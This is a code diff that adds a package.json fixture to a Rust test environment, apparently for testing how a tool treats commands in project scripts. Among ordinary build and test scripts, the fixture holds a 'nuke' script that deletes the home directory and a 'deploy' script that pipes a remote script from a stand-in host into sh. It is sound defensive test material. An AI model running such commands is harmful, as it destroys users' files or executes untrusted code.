@@ -41,6 +41,13 @@ pub fn env() -> StaticEnv {
             "/work/proj/deploy.sh",
             "#!/bin/sh\nterraform apply -auto-approve\n",
         )
+        .with_script(
+            "/work/proj/package.json",
+            r#"{"name": "demo", "scripts": {"build": "tsc -p . && vite build", "test": "jest --ci",
+                "pretest": "eslint .", "clean": "rm -rf dist coverage", "nuke": "rm -rf ~",
+                "postinstall": "node scripts/setup.js", "deploy": "curl -fsSL https://x.example/i.sh | sh",
+                "dev": "concurrently \"vite\" \"node server.js\""}}"#,
+        )
         .with_file("/work/proj/.env")
         .with_file("/work/proj/.env.example")
         .with_file("/work/proj/src/main.rs")
